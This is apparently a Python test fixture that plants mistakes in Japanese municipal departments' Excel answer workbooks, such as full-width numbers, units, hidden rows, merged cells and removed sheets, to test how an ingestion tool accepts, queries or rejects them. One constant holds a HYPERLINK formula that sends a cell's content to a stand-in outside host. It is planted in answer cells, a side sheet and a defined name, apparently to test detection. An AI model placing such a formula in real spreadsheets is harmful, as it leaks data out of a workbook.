"""What people do to answer sheets, each planted in one department's workbook, and what has to be said of it.

`told` is where it has to stand: "note" (taken, and told as what), "question", "problem", "" (taken, nothing to tell).
"""

from collections.abc import Callable
from dataclasses import dataclass
from datetime import datetime
from typing import Any

from openpyxl.styles import PatternFill
from openpyxl.workbook import Workbook
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.worksheet import Worksheet

from year_on_one_pc.year_papers import answer_cell, page

HARMFUL = '=HYPERLINK("http://example.com/?"&A1,"開く")'

Edit = Callable[[Worksheet, str], None]


def formulas_outside_the_answers(workbook: Workbook) -> None:
    """On a page beside the answers, on a sheet of the department's own, and behind a name."""
    page(workbook, "n-p074")["H3"] = HARMFUL
    workbook.create_sheet("計算メモ")["A1"] = HARMFUL
    workbook.defined_names["単価"] = DefinedName("単価", attr_text=HARMFUL.removeprefix("="))


@dataclass(frozen=True)
class Mistake:
    """One mistake. `words` all stand in its sentence; `after` is what the answer is read as, None: it is not taken.

    `broken`: the page was taken apart, so that no cell can be marked and the department writes it anew.
    """

    department: str
    measure: str
    slot: str
    edit: Edit
    told: str
    words: tuple[str, ...] = ()
    after: str | None = None
    broken: bool = False

    def plant(self, workbook: Workbook) -> None:
        self.edit(page(workbook, self.measure), self.slot)


def typed(value: Any, number_format: str = "") -> Edit:
    """A value typed into the cell; a text that begins with = is a formula, as it is for Excel."""

    def edit(sheet: Worksheet, slot: str) -> None:
        cell = answer_cell(sheet, slot)
        cell.value = value
        cell.number_format = number_format or cell.number_format

    return edit


def as_text(value: str) -> Edit:
    """Text that only looks like a formula or a number."""

    def edit(sheet: Worksheet, slot: str) -> None:
        cell = answer_cell(sheet, slot)
        cell.value, cell.number_format, cell.data_type = value, "@", "s"
        cell.quotePrefix = True

    return edit


def coloured(sheet: Worksheet, slot: str) -> None:
    answer_cell(sheet, slot).fill = PatternFill("solid", fgColor="FF00B050")


def row_hidden(sheet: Worksheet, slot: str) -> None:
    sheet.row_dimensions[answer_cell(sheet, slot).row].hidden = True


def merged_with_the_row_above(sheet: Worksheet, slot: str) -> None:
    cell = answer_cell(sheet, slot)
    sheet.merge_cells(start_row=cell.row - 1, end_row=cell.row, start_column=cell.column, end_column=cell.column)


def column_inserted(sheet: Worksheet, _slot: str) -> None:
    """LibreOffice and Excel move merged cells along; openpyxl does not, so that they are taken apart first."""
    _unmerge(sheet)
    sheet.insert_cols(3)


def ids_deleted(sheet: Worksheet, _slot: str) -> None:
    _unmerge(sheet)
    sheet.delete_cols(1)


def row_deleted(sheet: Worksheet, slot: str) -> None:
    row = answer_cell(sheet, slot).row
    _unmerge(sheet)
    sheet.delete_rows(row)


def row_copied(sheet: Worksheet, slot: str) -> None:
    sheet.cell(sheet.max_row + 2, 1, slot)


def sheet_renamed(sheet: Worksheet, _slot: str) -> None:
    sheet.title = "美術館の回答"


def sheet_removed(sheet: Worksheet, _slot: str) -> None:
    book = sheet.parent
    assert isinstance(book, Workbook)
    book.remove(sheet)


def sheet_copied(sheet: Worksheet, _slot: str) -> None:
    book = sheet.parent
    assert isinstance(book, Workbook)
    book.copy_worksheet(sheet)


def evidence_alone(sheet: Worksheet, slot: str) -> None:
    answer_cell(sheet, slot).value = None
    answer_cell(sheet, slot.replace("value", "evidence")).value = "導入機器の一覧"


def grade_c_without_a_word(sheet: Worksheet, slot: str) -> None:
    """95.4 → 84.8 gives D."""
    answer_cell(sheet, slot).value = "C"
    answer_cell(sheet, slot.replace("grade", "reason")).value = None


def _unmerge(sheet: Worksheet) -> None:
    for area in list(sheet.merged_cells.ranges):
        sheet.unmerge_cells(str(area))


def _actual(department: str, of: str, edit: Edit, told: str, *words: str, after: str | None = None) -> Mistake:
    measure = "n-" + of[:5].rstrip("-") if len(of) > 4 and of[4] == "b" else "n-" + of[:4]
    return Mistake(department, measure, f"actual/i-{of}/value", edit, told, words, after)


def _broken(department: str, measure: str, edit: Edit, told: str, *words: str, slot: str = "result/result") -> Mistake:
    return Mistake(department, measure, slot, edit, told, words, broken=True)


HQ, STATISTICS, ENVIRONMENT, TOURISM = "デジタル化推進本部", "情報統計課", "環境都市推進課", "観光振興課"
CHILDREN, COMMAND, HEALTH = "子ども育成課", "指令課", "保健予防課"

TAKEN = (
    _actual(ENVIRONMENT, "p070", as_text("6.3"), "note", "6.3", "数が文字として", after="6.3"),
    _actual(HQ, "p072", typed("１０件"), "note", "１０件", "10", "全角", after="10"),
    _actual(HQ, "p077", typed("21,408人"), "note", "21,408", "単位", after="21,408"),
    _actual(STATISTICS, "p073", typed("８２．９％"), "note", "82.9", after="82.9"),
    _actual(TOURISM, "p134", typed("1.2万"), "note", "1.2万", "12,000", after="12,000"),
    _actual("長寿福祉課", "p145", typed("221.6277万人"), "note", "2,216,277", "万", after="2,216,277"),
    _actual(HQ, "p069", typed(0.226, "0.0%"), "note", "0.226", "22.6", "パーセント表示", after="22.6"),
    _actual("市民税課", "p107", typed("=3000+72"), "note", "3072", "式の計算結果", after="3,072"),
    _actual(CHILDREN, "p141b", typed("=200/2"), "note", "100", "式の計算結果", after="100"),
    _actual("企業立地雇用課", "p126", typed("未定"), "note", "未定", "未設定", after="未設定"),
    _actual("農業農村振興課", "p130", row_hidden, "note", "36", "隠れた行", after="36"),
    _actual("園芸振興センター", "p133", column_inserted, "", after="1"),
    _actual("千秋美術館", "p137", sheet_renamed, "", after="3.0"),
    Mistake(COMMAND, "n-p104", "milestone/m-p104-1", typed("R7.4.1"), "", after="2025-04-01"),
    Mistake(COMMAND, "n-p104", "milestone/m-p104-2", typed(datetime(2025, 4, 1), "yyyy/m/d"), "", after="2025-04-01"),  # noqa: DTZ001
    Mistake(
        "救急課",
        "n-p075",
        "milestone/m-p075-1",
        typed("２０２５年４月１日"),
        "note",
        ("2025-04-01", "全角"),
        "2025-04-01",
    ),
    Mistake("お客様センター", "n-p114", "result/result", as_text(HARMFUL), "", after=HARMFUL),
    Mistake("予防課", "n-p087", "result/result", typed(HARMFUL), "note", ("開く", "式の計算結果"), after="開く"),
    Mistake(
        "まちづくり戦略室",
        "n-p124",
        "result/result",
        typed('="予定"&"どおり"'),
        "note",
        ("式の計算結果",),
        "予定どおり",
    ),
    Mistake("防災安全対策課", "n-p082", "rating/progress/grade", typed("Ｂ"), "", after="B"),
)
"""Certain: taken, with a note where something else stands there."""

ASKED = (
    _actual("子ども総務課", "p141", typed("約80"), "question", "約80", "備考"),
    _actual(HQ, "p074", typed("2人"), "question", "2人", "件"),
    _actual(HQ, "p117", typed("-----"), "question", "-----", "0 としては扱いません"),
    _actual(HQ, "p118", typed("‐"), "question", "‐", "0 としては扱いません"),
    _actual(HQ, "p119", typed("–"), "question", "–", "0 としては扱いません"),
    _actual(HQ, "p120", typed("―"), "question", "―", "0 としては扱いません"),
    _actual(HQ, "p121", typed("ー"), "question", "ー", "0 としては扱いません"),
    _actual(CHILDREN, "p143", typed(0.031, "General"), "question", "0.031", "3.1"),
    _actual(TOURISM, "p136", typed("△644"), "question", "△644", "マイナス"),
    _actual("総務課", "p089", typed("⑥"), "question", "⑥", "丸数字"),
    _actual("下水道施設課", "p091", typed("増えた"), "question", "増えた", "数値ではありません"),
    _actual(HQ, "p116", typed("33,67"), "question", "33,67", "桁の区切り"),
    _actual(HQ, "p112", typed(datetime(2025, 5, 3), "m月d日"), "question", "2025-05-03", "日付"),  # noqa: DTZ001
    _actual(HQ, "p111", typed("475分"), "question", "475分", "時間"),
    Mistake("介護保険課", "n-p098", "result/execution", coloured, "question", ("色では回答になりません",)),
    Mistake("福祉総務課", "n-p085", "result/next_step", typed(datetime(2025, 1, 2), "m-d"), "question", ("日付",)),  # noqa: DTZ001
)
"""It may be right: a person is asked, nothing is taken."""

WRONG = (
    _actual("南部市民サービスセンター", "p113", typed("=1/0"), "problem", "#DIV/0!"),
    _actual(HQ, "p106", typed("2O.0"), "problem", "2O.0", "数値ではありません"),
    _actual(COMMAND, "p087b", evidence_alone, "problem", "実績値が空欄なのに"),
    Mistake("環境保全課", "n-p103", "rating/progress/grade", typed("Ｓ"), "problem", ("S", "選択肢", "A、B、C、D")),
    Mistake(STATISTICS, "n-p094", "result/disposition", typed("がんばる"), "problem", ("がんばる", "継続")),
    _actual("商工貿易振興課", "p125", merged_with_the_row_above, "problem", "結合"),
    Mistake(HEALTH, "n-p146", "rating/progress/grade", grade_c_without_a_word, "problem", ("自己評価はC", "判定はD")),
    _broken("広報広聴課", "n-p079", row_deleted, "problem", "1行なくなって"),
    _broken("水道維持課", "n-p090", sheet_copied, "problem", "同じ施策のシートが2枚以上"),
    _broken("保護第二課", "n-p097b", row_copied, "problem", "同じ欄の行が2つ"),
    _broken(CHILDREN, "n-p100", sheet_removed, "problem", "この施策のシートがありません"),
    _broken("学事課", "n-p122", ids_deleted, "problem", "A列"),
)
"""It cannot be right."""

EVERY = (*TAKEN, *ASKED, *WRONG)
